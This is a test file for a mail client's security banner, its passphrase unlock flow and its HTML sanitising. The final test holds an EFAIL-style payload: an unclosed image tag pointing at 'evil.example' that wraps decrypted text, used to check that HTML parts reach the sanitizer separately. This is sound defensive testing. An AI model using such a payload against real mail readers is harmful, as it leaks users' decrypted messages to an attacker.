/**
 * The reader's security banner (renderer/src/lib/security.ts) decided from
 * InspectReport samples: valid, signer mismatch, partial, failed, no key,
 * locked key; and the reader's unlock flow (reader.svelte.ts).
 */
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import type { KeySummary } from '../../app/keys.ts';
import { fakeBridge, loadLib, sampleReport, type Lib } from '../support/renderer/bundle.ts';

let lib: Lib;
before(async () => {
  lib = await loadLib();
});

const BOB_FPR = '0123456789ABCDEF0123456789ABCDEF01234567';
const MY_FPR = 'AAAABBBBCCCCDDDDEEEEFFFF0000111122223333';

function key(over: Partial<KeySummary>): KeySummary {
  return {
    fingerprint: BOB_FPR,
    keyId: BOB_FPR.slice(-16),
    userIds: ['Bob Example <bob@example.org>'],
    emails: ['bob@example.org'],
    hasSecret: false,
    algorithm: 'ed25519',
    version: 4,
    created: '2025-01-01T00:00:00Z',
    expires: null,
    revoked: false,
    canEncrypt: true,
    canSign: true,
    trust: 'unverified',
    sources: ['file'],
    ...over,
  };
}

const ENCRYPTED = { status: 'decrypted', integrity: 'aead', recipients: ['1111222233334444'], protectedHeaders: true, lockedKeys: [] };
const SIGNED_BY_BOB = {
  status: 'valid',
  signer: { fingerprint: BOB_FPR, userIds: ['Bob Example <bob@example.org>'] },
  signerMatchesFrom: true,
  created: '2026-03-04T10:20:00Z',
};

test('fingerprints are shown in groups of four', () => {
  assert.deepEqual(lib.fingerprintGroups(BOB_FPR), ['0123', '4567', '89AB', 'CDEF', '0123', '4567', '89AB', 'CDEF', '0123', '4567']);
  assert.equal(lib.groupFingerprint(BOB_FPR), '0123 4567 89AB CDEF 0123 4567 89AB CDEF 0123 4567');
  assert.equal(lib.fingerprintGroups('0123 4567 89ab').join(' '), '0123 4567 89AB');
  assert.equal(lib.fingerprintGroups('A'.repeat(64)).length, 16, 'v6 fingerprints too');
});

test('encrypted and validly signed by the sender: secure, with name, address and grouped fingerprint', () => {
  const b = lib.securityBanner(sampleReport({ encryption: ENCRYPTED, signature: SIGNED_BY_BOB }), [key({ trust: 'verified' })]);
  assert.equal(b.tone, 'secure');
  assert.equal(b.headline, 'Encrypted and signed');
  assert.equal(b.encryption.icon, 'lock');
  assert.equal(b.signature.title, 'Signed by Bob Example <bob@example.org>');
  assert.match(b.signature.text, /You verified this key/);
  assert.deepEqual(b.signer, {
    name: 'Bob Example',
    address: 'bob@example.org',
    fingerprint: BOB_FPR,
    groups: lib.fingerprintGroups(BOB_FPR),
    trust: 'verified',
  });
  assert.deepEqual(b.notes, []);
  assert.equal(b.unlock, null);

  const unverified = lib.securityBanner(sampleReport({ signature: SIGNED_BY_BOB }), [key({})]);
  assert.equal(unverified.tone, 'secure');
  assert.equal(unverified.headline, 'Signed, not encrypted');
  assert.match(unverified.signature.text, /Compare the fingerprint/);
  assert.equal(unverified.encryption.title, 'Not encrypted');
});

test('signed, but the signer is not the sender: a warning that names both', () => {
  const report = sampleReport({
    from: { name: 'Bank', address: 'security@bank.example' },
    signature: { ...SIGNED_BY_BOB, signerMatchesFrom: false },
    warnings: [
      {
        code: 'signer-mismatch',
        message: 'the message is signed by Bob Example <bob@example.org>, who is not the sender security@bank.example',
      },
    ],
  });
  const b = lib.securityBanner(report);
  assert.equal(b.tone, 'warning');
  assert.equal(b.signature.title, 'Signed by someone else');
  assert.match(b.signature.text, /Signed by Bob Example <bob@example.org>, who is not the sender security@bank.example/);
  assert.deepEqual(b.notes, [], 'the mismatch warning is said once, by the signature line');
});

test('partially signed or encrypted: warnings from the report codes', () => {
  const report = sampleReport({
    signature: SIGNED_BY_BOB,
    warnings: [
      { code: 'partially-signed', message: 'only a part of this message is signed; the signature does not cover the whole message' },
      {
        code: 'partially-encrypted',
        message: 'only a part of this message is encrypted; it was not decrypted, and the rest is not protected',
      },
      { code: 'something-new', message: 'a finding this version does not know' },
    ],
  });
  const b = lib.securityBanner(report);
  assert.equal(b.tone, 'warning');
  assert.deepEqual(
    b.notes.map((n) => [n.code, n.title, n.tone]),
    [
      ['partially-signed', 'Only partly signed', 'warning'],
      ['partially-encrypted', 'Only partly encrypted', 'warning'],
      ['something-new', 'Warning', 'warning'],
    ],
  );
  assert.equal(b.notes[0]!.text, 'Only a part of this message is signed; the signature does not cover the whole message.');
});

test('failed integrity and bad signatures: error style', () => {
  const failed = lib.securityBanner(
    sampleReport({
      encryption: { status: 'failed', integrity: null, recipients: [], protectedHeaders: false, lockedKeys: [] },
      warnings: [{ code: 'integrity-failed', message: 'the encrypted data was modified; it was not shown' }],
    }),
  );
  assert.equal(failed.tone, 'error');
  assert.equal(failed.headline, 'Decryption failed');
  assert.equal(failed.encryption.text, 'The encrypted data was modified; it was not shown.');
  assert.deepEqual(failed.notes, []);

  const bad = lib.securityBanner(sampleReport({ signature: { status: 'invalid', signer: null, signerMatchesFrom: false, created: null } }));
  assert.equal(bad.tone, 'error');
  assert.equal(bad.headline, 'Bad signature');
  assert.match(bad.signature.text, /changed after it was signed/);

  const revoked = lib.securityBanner(sampleReport({ signature: { ...SIGNED_BY_BOB, status: 'revoked-key' } }));
  assert.equal(revoked.tone, 'error');

  const fromMismatch = lib.securityBanner(
    sampleReport({
      encryption: ENCRYPTED,
      warnings: [{ code: 'from-mismatch', message: 'the protected From (a@x) differs from the From sent in the clear (b@x)' }],
    }),
  );
  assert.equal(fromMismatch.tone, 'error');
  assert.equal(fromMismatch.headline, 'Encrypted, with a security problem');
});

test('encrypted to a key the user does not have: the key ids, no passphrase prompt; unknown signer: lookup offered', () => {
  const b = lib.securityBanner(
    sampleReport({
      encryption: { status: 'no-key', integrity: null, recipients: ['1111222233334444'], protectedHeaders: false, lockedKeys: [] },
      signature: { status: 'unknown-key', signer: null, signerMatchesFrom: false, created: null },
    }),
    [key({ fingerprint: MY_FPR, keyId: MY_FPR.slice(-16), hasSecret: true })],
  );
  assert.equal(b.tone, 'warning');
  assert.equal(b.encryption.title, 'Encrypted to a key you do not have');
  assert.equal(b.unlock, null);
  assert.deepEqual(b.missingKeyIds, ['1111222233334444']);
  assert.equal(b.offerLookup, true);
  assert.equal(b.signature.title, 'Signed with a key you do not have');
});

test('a locked key: the passphrase prompt names the right key (from the locked keys in the report, never its text, or by key id)', () => {
  const mine = key({
    fingerprint: MY_FPR,
    keyId: MY_FPR.slice(-16),
    userIds: ['Alice <alice@example.org>'],
    hasSecret: true,
    subkeys: [
      {
        fingerprint: 'B'.repeat(40),
        keyId: '5555666677778888',
        algorithm: 'x25519',
        created: '',
        expires: null,
        revoked: false,
        canEncrypt: true,
        canSign: false,
        hasSecret: true,
      },
    ],
  });
  const locked = lib.securityBanner(
    sampleReport({
      encryption: { status: 'no-key', integrity: null, recipients: ['5555666677778888'], protectedHeaders: false, lockedKeys: [MY_FPR] },
      warnings: [{ code: 'needs-passphrase', message: 'a secret key for this message is locked; give its passphrase' }],
    }),
    [mine],
  );
  assert.equal(locked.encryption.title, 'Encrypted: your key is locked');
  assert.deepEqual(locked.unlock, { candidates: [{ fingerprint: MY_FPR, label: `Alice <alice@example.org> (${MY_FPR.slice(-16)})` }] });
  assert.deepEqual(locked.notes, []);
  assert.deepEqual(locked.missingKeyIds, []);

  const byKeyId = lib.securityBanner(
    sampleReport({
      encryption: { status: 'no-key', integrity: null, recipients: ['5555666677778888'], protectedHeaders: false, lockedKeys: [] },
    }),
    [mine],
  );
  assert.equal(byKeyId.unlock!.candidates[0]!.fingerprint, MY_FPR);
});

test('the reader unlocks the named key with the typed passphrase and reads the message again', async () => {
  let unlocked = false;
  const lockedReport = sampleReport({
    encryption: { status: 'no-key', integrity: null, recipients: [], protectedHeaders: false, lockedKeys: [MY_FPR] },
    warnings: [{ code: 'needs-passphrase', message: 'a secret key for this message is locked; give its passphrase' }],
  });
  const fake = fakeBridge({
    'mail.read': () => ({ report: unlocked ? sampleReport({ encryption: ENCRYPTED }) : lockedReport, html: null }),
    'session.unlock': ({ passphrase }: { passphrase: string }) => {
      if (passphrase !== 'right one') throw { code: 'key-wrong-passphrase', message: 'Wrong passphrase' };
      unlocked = true;
      return { expiresAt: 1 };
    },
  });
  const reader = new lib.ReaderState(fake.bridge, { keys: () => [], settings: () => lib.DEFAULT_SETTINGS });
  const item = {
    folderId: 1,
    uid: '42',
    messageId: null,
    from: null,
    to: [],
    cc: [],
    subject: '...',
    date: null,
    flags: [],
    security: 'encrypted' as const,
    size: null,
  };
  await reader.open(item);
  assert.equal(reader.unlockFingerprint, MY_FPR);
  reader.passphrase = 'wrong';
  assert.equal(await reader.unlock(), false);
  assert.equal(reader.unlockError!.summary, 'Wrong passphrase. Try again.');
  assert.equal(reader.passphrase, '', 'the passphrase is not kept');
  reader.passphrase = 'right one';
  assert.equal(await reader.unlock(), true);
  assert.deepEqual(fake.callsOf('session.unlock').at(-1), { fingerprint: MY_FPR, passphrase: 'right one' });
  assert.equal(fake.callsOf('mail.read').length, 2);
  assert.equal(reader.banner!.encryption.title, 'Encrypted');
  assert.equal(reader.banner!.unlock, null);
});

test('the reader: HTML only on request, remote content only with consent and never with the setting "never"', async () => {
  let policy: 'ask' | 'never' = 'ask';
  let frames = 0;
  const fake = fakeBridge({
    'mail.read': () => ({ report: sampleReport(), html: '<p>hi <img src="https://tracker.example/x.png"></p>' }),
    'mail.frame': () => ({ url: `app://sealpost/message/frame${++frames}` }),
  });
  const settle = () => new Promise((resolve) => setImmediate(resolve));
  const lastFrame = () => fake.callsOf('mail.frame').at(-1) as { document: string; allowRemote: boolean };
  const seen: boolean[] = [];
  const sanitize = (parts: readonly string[], allowRemote: boolean) => {
    seen.push(allowRemote);
    const html = parts.join('');
    return {
      html: allowRemote ? html : html.replace(/ src="[^"]*"/, ''),
      blockedRemote: allowRemote ? 0 : 1,
      allowedRemote: allowRemote ? 1 : 0,
      remoteUrls: allowRemote ? ['https://tracker.example/p.png'] : [],
    };
  };
  const reader = new lib.ReaderState(
    fake.bridge,
    { keys: () => [], settings: () => ({ ...lib.DEFAULT_SETTINGS, remoteContent: policy }) },
    sanitize,
  );
  await reader.open({
    folderId: 1,
    uid: '1',
    messageId: null,
    from: null,
    to: [],
    cc: [],
    subject: '',
    date: null,
    flags: [],
    security: 'none',
    size: null,
  });
  assert.equal(reader.frame, null, 'text by default');
  assert.equal(fake.callsOf('mail.frame').length, 0, 'no frame made for the text view');
  await reader.setShowHtml(true);
  assert.equal(reader.frame!.blockedRemote, 1);
  assert.equal(reader.frame!.url, 'app://sealpost/message/frame1', 'the frame is loaded from the URL main serves it at');
  assert.equal(lastFrame().allowRemote, false);
  assert.match(lastFrame().document, /img-src data:;/);
  assert.doesNotMatch(lastFrame().document, /tracker/);
  assert.equal(reader.allowRemote(), true);
  await settle();
  assert.equal(lastFrame().allowRemote, true);
  assert.match(lastFrame().document, /img-src data: https:;/);
  assert.match(lastFrame().document, /tracker/);
  assert.equal(reader.frame!.url, 'app://sealpost/message/frame2');
  assert.deepEqual(seen, [false, true]);

  // Another message: blocked again.
  await reader.open({
    folderId: 1,
    uid: '2',
    messageId: null,
    from: null,
    to: [],
    cc: [],
    subject: '',
    date: null,
    flags: [],
    security: 'none',
    size: null,
  });
  await reader.setShowHtml(true);
  assert.equal(reader.frame!.blockedRemote, 1);
  assert.equal(lastFrame().allowRemote, false);

  policy = 'never';
  const strict = new lib.ReaderState(
    fake.bridge,
    { keys: () => [], settings: () => ({ ...lib.DEFAULT_SETTINGS, remoteContent: 'never' }) },
    sanitize,
  );
  await strict.open({
    folderId: 1,
    uid: '3',
    messageId: null,
    from: null,
    to: [],
    cc: [],
    subject: '',
    date: null,
    flags: [],
    security: 'none',
    size: null,
  });
  await strict.setShowHtml(true);
  assert.equal(strict.allowRemote(), false);
  await settle();
  assert.equal(lastFrame().allowRemote, false);
  assert.doesNotMatch(lastFrame().document, /tracker/);
});

test('the reader hands the sanitizer the message\u2019s HTML parts apart, cut where main says each starts', async () => {
  const efail = ['<img src="http://evil.example/?', '<p>secret</p>', '">'];
  const html = efail.join('\n');
  assert.deepEqual(lib.htmlParts(html, [0, efail[0]!.length + 1, efail[0]!.length + efail[1]!.length + 2]), efail);
  assert.deepEqual(lib.htmlParts(html), [html], 'no offsets: one part');
  assert.deepEqual(lib.htmlParts(html, [0, 999, -1, 1.5]), [html], 'offsets out of range are ignored');
  const given: (readonly string[])[] = [];
  const fake = fakeBridge({
    'mail.read': () => ({ report: sampleReport(), html, htmlStarts: [0, 32, 46] }),
    'mail.frame': () => ({ url: 'app://sealpost/message/frame1' }),
  });
  const reader = new lib.ReaderState(fake.bridge, { keys: () => [], settings: () => lib.DEFAULT_SETTINGS }, (parts: readonly string[]) => {
    given.push(parts);
    return { html: '', blockedRemote: 0, allowedRemote: 0, remoteUrls: [] };
  });
  await reader.open({
    folderId: 1,
    uid: '1',
    messageId: null,
    from: null,
    to: [],
    cc: [],
    subject: '',
    date: null,
    flags: [],
    security: 'none',
    size: null,
  });
  await reader.setShowHtml(true);
  assert.deepEqual(given, [efail]);
});
